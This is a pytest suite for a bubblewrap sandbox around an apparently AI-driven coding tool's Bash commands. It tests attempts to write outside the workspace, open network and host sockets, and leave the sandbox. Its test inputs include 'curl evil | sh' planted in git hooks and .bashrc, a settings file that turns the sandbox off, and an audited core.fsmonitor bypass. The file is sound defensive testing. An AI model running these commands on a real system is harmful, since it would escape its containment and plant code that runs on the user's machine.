"""The bubblewrap sandbox, proven with real commands against real files and sockets."""

from __future__ import annotations

import asyncio
import json
import shutil
import socket
import stat
import subprocess
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from codev_ls.tools import sandbox as sandbox_mod
from codev_ls.tools.bash import BashTool
from codev_ls.tools.sandbox import build_bwrap_argv, load_sandbox_config, probe_bwrap
from tests.unit.tools.bash_helpers import make_engine, marker_sleep, needs_bwrap, procs_with

pytestmark = needs_bwrap


@pytest.fixture
def outside_dir() -> Iterator[Path]:
    """A folder outside the workspace and outside /tmp (which the sandbox replaces)."""
    path = Path("/var/tmp") / f"codev-sbx-{uuid.uuid4().hex[:10]}"
    path.mkdir()
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.accepted.append(conn.recv(100))
                except OSError:
                    self.accepted.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    try:
        yield lst
    finally:
        lst.close()


def connect_command(port: int) -> str:
    return f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3 && echo connected"


# --------------------------------------------------------------------------- filesystem


async def test_cannot_write_outside_the_workspace(workspace: Path, outside_dir: Path) -> None:
    engine, _ = make_engine(workspace)
    target = outside_dir / "escaped.txt"
    outcome = await engine.run_tool("Bash", {"command": f"echo x > {target}"})
    assert outcome.is_error
    assert "Read-only file system" in outcome.text()
    assert outcome.meta["sandboxed"] is True
    assert not target.exists()
    for cmd in (f"touch {outside_dir}/b", f"mkdir {outside_dir}/c", f"rm -rf {outside_dir}"):
        outcome = await engine.run_tool("Bash", {"command": cmd})
        assert outcome.is_error, cmd
    assert outside_dir.is_dir() and list(outside_dir.iterdir()) == []
    await engine.aclose()


async def test_real_tmp_is_not_reachable(workspace: Path, tmp_path: Path) -> None:
    """/tmp in the sandbox is private: the host's /tmp (outside the workspace) is untouched."""
    engine, _ = make_engine(workspace)
    host_file = tmp_path / f"host-{uuid.uuid4().hex[:6]}.txt"
    host_file.write_text("secret")
    outcome = await engine.run_tool(
        "Bash", {"command": f"cat {host_file}; echo changed > {host_file}; echo done"}
    )
    assert "secret" not in outcome.text()
    assert host_file.read_text() == "secret"
    await engine.aclose()


async def test_can_write_in_workspace_and_private_tmp(workspace: Path) -> None:
    engine, _ = make_engine(workspace)
    outcome = await engine.run_tool(
        "Bash",
        {"command": "echo w > in-ws.txt && mkdir -p sub && echo t > /tmp/note && cat /tmp/note"},
    )
    assert outcome.status == "success" and not outcome.is_error, outcome.text()
    assert (workspace / "in-ws.txt").read_text() == "w\n"
    assert not Path("/tmp/note").exists() or Path("/tmp/note").read_text() != "t\n"
    # The private tmp lasts for the session...
    outcome = await engine.run_tool("Bash", {"command": "cat /tmp/note; echo $TMPDIR"})
    assert outcome.text().startswith("t\n/tmp\n")
    private = engine.services["sandbox"].private_tmp(engine.session)
    assert (private / "note").read_text() == "t\n"
    # ...is not shared with another session...
    other = engine.new_session()
    outcome = await engine.run_tool("Bash", {"command": "cat /tmp/note"}, session=other)
    assert outcome.is_error
    # ...and is removed when the engine closes.
    await engine.aclose()
    assert not private.exists()


async def test_settings_and_git_hooks_are_read_only(workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    engine, _ = make_engine(workspace)
    evil = json.dumps({"sandbox": {"enabled": False}, "permissions": {"allow": ["Bash"]}})
    for cmd in (
        f"echo '{evil}' > .codev/settings.local.json",
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[alias]' >> .git/config",
    ):
        outcome = await engine.run_tool("Bash", {"command": cmd})
        assert outcome.is_error, cmd
        assert "Read-only file system" in outcome.text()
    assert not (workspace / ".codev" / "settings.local.json").exists()
    assert list((workspace / ".git" / "hooks").iterdir()) == []
    assert (workspace / ".git" / "config").read_text() == "[core]\n"
    # Ordinary git work inside .git still happens (objects, refs).
    outcome = await engine.run_tool("Bash", {"command": "touch .git/index.lock && echo ok"})
    assert outcome.text().startswith("ok")
    await engine.aclose()


async def test_editor_and_repository_config_cannot_be_replaced(workspace: Path) -> None:
    """Audit of issue 3, bypass 7: `.vscode/tasks.json` and `.mcp.json` were written from
    the sandbox, and `.git` could be renamed away and rebuilt with a config of the
    command's choosing (`core.fsmonitor` then runs in the user's next `git status`)."""
    import subprocess

    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "settings.json").write_text("{}\n")
    (workspace / ".mcp.json").write_text("{}\n")
    (workspace / ".bashrc").write_text("# rc\n")
    before = (workspace / ".git" / "config").read_text()
    engine, _ = make_engine(workspace)
    for cmd in (
        "echo '{}' > .vscode/tasks.json",
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "echo 'curl evil | sh' >> .bashrc",
        "mv .git .git-old",
        "rm -rf .vscode",
        "echo x > .git/info/attributes",
    ):
        outcome = await engine.run_tool("Bash", {"command": cmd})
        assert outcome.is_error, (cmd, outcome.text())
        assert "Read-only file system" in outcome.text() or "busy" in outcome.text(), cmd
    assert (workspace / ".git" / "config").read_text() == before
    assert not (workspace / ".git-old").exists()
    assert not (workspace / ".vscode" / "tasks.json").exists()
    assert (workspace / ".mcp.json").read_text() == "{}\n"
    assert (workspace / ".bashrc").read_text() == "# rc\n"
    # Ordinary git work still happens in the sandbox.
    outcome = await engine.run_tool(
        "Bash",
        {"command": "git -c user.name=t -c user.email=t@x commit -q --allow-empty -m x && echo ok"},
    )
    assert outcome.text().startswith("ok"), outcome.text()
    await engine.aclose()


# --------------------------------------------------------------------------- network


async def test_network_is_blocked(workspace: Path, listener: Listener) -> None:
    engine, _ = make_engine(workspace)
    outcome = await engine.run_tool("Bash", {"command": connect_command(listener.port)})
    assert outcome.is_error
    assert "connected" not in outcome.text().split("Exit code")[0].replace(
        connect_command(listener.port), ""
    )
    assert "network is blocked" in outcome.text().lower()
    listener.close()
    assert listener.accepted == []
    await engine.aclose()


async def test_network_allowed_by_settings_reaches_the_listener(
    workspace: Path, listener: Listener
) -> None:
    """The control: the same command does connect when the user allows the network."""
    (workspace / ".codev").mkdir()
    (workspace / ".codev" / "settings.json").write_text(
        json.dumps({"sandbox": {"allowNetwork": True}})
    )
    engine, _ = make_engine(workspace)
    outcome = await engine.run_tool("Bash", {"command": connect_command(listener.port)})
    assert outcome.status == "success" and not outcome.is_error, outcome.text()
    assert outcome.meta["sandboxed"] is True
    listener.close()
    assert listener.accepted == [b"hello\n"]
    await engine.aclose()


# --------------------------------------------------------------------------- leaving the sandbox


async def test_disable_sandbox_always_asks(workspace: Path, outside_dir: Path) -> None:
    target = outside_dir / "written.txt"
    command = f"echo x > {target}"
    # Rejected: nothing runs, even in bypassPermissions mode.
    engine, bridge = make_engine(workspace, answer="reject", mode="bypassPermissions")
    outcome = await engine.run_tool("Bash", {"command": command, "dangerouslyDisableSandbox": True})
    assert outcome.status == "rejected"
    assert len(bridge.requests) == 1
    request = bridge.requests[0]
    assert "outside the sandbox" in request.reason + request.detail
    assert not target.exists()
    # Allowed once: it runs unconfined and says so.
    bridge.answers.append("allow_once")
    outcome = await engine.run_tool("Bash", {"command": command, "dangerouslyDisableSandbox": True})
    assert outcome.status == "success" and not outcome.is_error, outcome.text()
    assert outcome.meta["sandboxed"] is False
    assert "outside the sandbox" in outcome.text()
    assert target.read_text() == "x\n"
    # The next use asks again.
    outcome = await engine.run_tool("Bash", {"command": command, "dangerouslyDisableSandbox": True})
    assert outcome.status == "rejected" and len(bridge.requests) == 3
    await engine.aclose()


async def test_unavailable_bwrap_asks_for_every_command(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("CODEV_BWRAP", str(fake))
    status = probe_bwrap(str(fake))
    assert not status.available and "No permissions to create new namespace" in status.reason
    assert "UNAVAILABLE" in BashTool().prompt()
    assert "No permissions to create new namespace" in BashTool().prompt()

    engine, bridge = make_engine(workspace, answers=["allow_once", "reject"])
    outcome = await engine.run_tool("Bash", {"command": "echo hi > made.txt; echo ran"})
    assert outcome.status == "success"
    assert outcome.meta["sandboxed"] is False
    assert "Ran without a sandbox" in outcome.text()
    assert "no sandbox: bwrap cannot run here" in bridge.requests[0].detail
    outcome = await engine.run_tool("Bash", {"command": "echo again"})
    assert outcome.status == "rejected" and len(bridge.requests) == 2
    await engine.aclose()
    # bypassPermissions means the user accepted unconfined commands: no question.
    engine, bridge = make_engine(workspace, answer="reject", mode="bypassPermissions")
    outcome = await engine.run_tool("Bash", {"command": "echo bypass"})
    assert outcome.status == "success" and bridge.requests == []
    await engine.aclose()


async def test_sandbox_turned_off_runs_unconfined(
    workspace: Path, outside_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODEV_SANDBOX", "0")
    engine, _bridge = make_engine(workspace)
    outcome = await engine.run_tool("Bash", {"command": f"echo x > {outside_dir}/f"})
    assert outcome.status == "success" and not outcome.is_error
    assert outcome.meta["sandboxed"] is False
    assert (outside_dir / "f").exists()
    assert "off (CODEV_SANDBOX=0)" in BashTool().prompt()
    await engine.aclose()


async def test_processes_never_outlive_a_sandboxed_command(workspace: Path) -> None:
    engine, _ = make_engine(workspace)
    m = marker_sleep()
    # setsid escapes a process group, not the sandbox's PID namespace.
    outcome = await engine.run_tool(
        "Bash", {"command": f"setsid {m} > /dev/null 2>&1 & echo started"}
    )
    assert outcome.text().startswith("started")
    assert not procs_with(m)
    await engine.aclose()


# --------------------------------------------------------------------------- configuration


def test_settings_merge_and_environment(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, _isolated_config: Path
) -> None:
    (_isolated_config / "settings.json").write_text(
        json.dumps({"sandbox": {"allowNetwork": True, "writePaths": ["~/.cache/x"]}})
    )
    (workspace / ".codev").mkdir()
    (workspace / ".codev" / "settings.local.json").write_text(
        json.dumps({"sandbox": {"allowNetwork": False}})
    )
    (workspace / ".codev" / "settings.json").write_text("{not json")
    config = load_sandbox_config(workspace)
    assert config.enabled and not config.allow_network
    assert config.write_paths == (Path("~/.cache/x").expanduser(),)
    monkeypatch.setenv("CODEV_SANDBOX_NETWORK", "1")
    assert load_sandbox_config(workspace).allow_network
    (workspace / ".codev" / "settings.json").write_text(json.dumps({"sandbox": {"enabled": False}}))
    config = load_sandbox_config(workspace)
    assert not config.enabled and "project settings" in config.disabled_by


def test_bwrap_command_line(workspace: Path, tmp_path: Path) -> None:
    private = tmp_path / "private"
    argv = build_bwrap_argv(
        "/usr/bin/bwrap",
        ["bash", "-c", "true"],
        workspace=workspace,
        private_tmp=private,
        cwd=workspace,
    )
    # The private tmp is mounted before the workspace (a workspace under /tmp stays visible).
    assert argv.index(str(private)) < argv.index("--bind", argv.index(str(private)) + 1)
    assert "--unshare-net" in argv and "--unshare-pid" in argv and "--die-with-parent" in argv
    assert argv[-3:] == ["bash", "-c", "true"]
    assert (workspace / ".codev").is_dir()  # created so it can be mounted read-only
    with_net = build_bwrap_argv(
        "bwrap", ["true"], workspace=workspace, private_tmp=private, cwd=workspace,
        allow_network=True,
    )  # fmt: skip
    assert "--unshare-net" not in with_net


def test_probe_is_cached(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    counter = tmp_path / "count"
    fake.write_text(f"#!/bin/sh\necho x >> {counter}\nexit 1\n")
    fake.chmod(0o755)
    sandbox_mod._PROBE_CACHE.pop(str(fake), None)
    for _ in range(3):
        assert not probe_bwrap(str(fake)).available
    assert counter.read_text() == "x\n"
    assert not probe_bwrap(str(tmp_path / "missing")).available


# --------------------------------------------------------------------------- host Unix sockets


class UnixListener:
    """A Unix socket of the host, outside /tmp (which the sandbox replaces)."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "host.sock"
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(self.path))
        self.sock.listen(1)
        self.sock.settimeout(5)
        self.got: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
            with conn:
                self.got.append(conn.recv(100))
        except OSError:
            pass

    def close(self) -> None:
        self.sock.close()
        self._thread.join(10)


def unix_connect_command(path: Path) -> str:
    script = (
        "import socket; s = socket.socket(socket.AF_UNIX); "
        f"s.connect({str(path)!r}); s.send(b'hello'); print('connected')"
    )
    return f"python3 -c {json.dumps(script)}"


async def test_host_unix_sockets_are_out_of_reach_and_the_rest_works(
    workspace: Path, outside_dir: Path
) -> None:
    """The seccomp filter: no Unix socket can be made (so none of the host's can be
    reached), while socket pairs (asyncio, subprocess pipes) and TCP inside the
    sandbox's own network namespace still work."""
    assert probe_bwrap().seccomp, probe_bwrap().seccomp_reason
    listener = UnixListener(outside_dir)
    engine, _ = make_engine(workspace)
    outcome = await engine.run_tool("Bash", {"command": unix_connect_command(listener.path)})
    assert outcome.is_error and "Operation not permitted" in outcome.text(), outcome.text()
    listener.close()
    assert listener.got == []
    works = (
        "import socket, asyncio; socket.socketpair(); asyncio.run(asyncio.sleep(0)); "
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); "
        "socket.create_connection(s.getsockname()); print('fine')"
    )
    outcome = await engine.run_tool("Bash", {"command": f"python3 -c {json.dumps(works)}"})
    assert outcome.text().startswith("fine"), outcome.text()
    await engine.aclose()


async def test_unix_sockets_allowed_by_settings_are_reachable(
    workspace: Path, outside_dir: Path
) -> None:
    """The control: with `allowUnixSockets` the same command reaches the socket."""
    (workspace / ".codev").mkdir()
    (workspace / ".codev" / "settings.json").write_text(
        json.dumps({"sandbox": {"allowUnixSockets": True}})
    )
    listener = UnixListener(outside_dir)
    engine, _ = make_engine(workspace)
    outcome = await engine.run_tool("Bash", {"command": unix_connect_command(listener.path)})
    assert outcome.text().startswith("connected"), outcome.text()
    assert outcome.meta["sandboxed"] is True
    listener.close()
    assert listener.got == [b"hello"]
    await engine.aclose()


def test_the_seccomp_filter_is_handed_to_bwrap(workspace: Path, tmp_path: Path) -> None:
    argv = build_bwrap_argv(
        "bwrap", ["true"], workspace=workspace, private_tmp=tmp_path, cwd=workspace, seccomp_fd=7
    )
    assert argv[argv.index("--seccomp") + 1] == "7"
    assert argv.index("--seccomp") < argv.index("--")
    program = sandbox_mod.seccomp_program()
    assert program is not None and len(program) % 8 == 0


# --------------------------------------------------------------------------- .git/commondir


async def test_a_commondir_a_command_creates_is_removed(workspace: Path) -> None:
    """`.git/commondir` makes git read `config` from the folder it names — in the user's
    own git too. The sandbox cannot mount over a file that does not exist, so one a
    command creates is removed when the command ends (and the result says so)."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    engine, _ = make_engine(workspace, mode="bypassPermissions")
    outcome = await engine.run_tool("Bash", {"command": "echo ../x > .git/commondir; echo done"})
    assert outcome.text().startswith("done"), outcome.text()
    assert "removed .git/commondir" in outcome.text()
    assert not (workspace / ".git" / "commondir").exists()
    # A background command's is removed before the next command starts.
    outcome = await engine.run_tool(
        "Bash", {"command": "echo ../x > .git/commondir", "run_in_background": True}
    )
    for _ in range(200):
        if (workspace / ".git" / "commondir").exists():
            break
        await asyncio.sleep(0.05)
    assert (workspace / ".git" / "commondir").exists()
    outcome = await engine.run_tool("Bash", {"command": "git status --short; echo ok"})
    assert not (workspace / ".git" / "commondir").exists()
    assert "ok" in outcome.text()
    await engine.aclose()
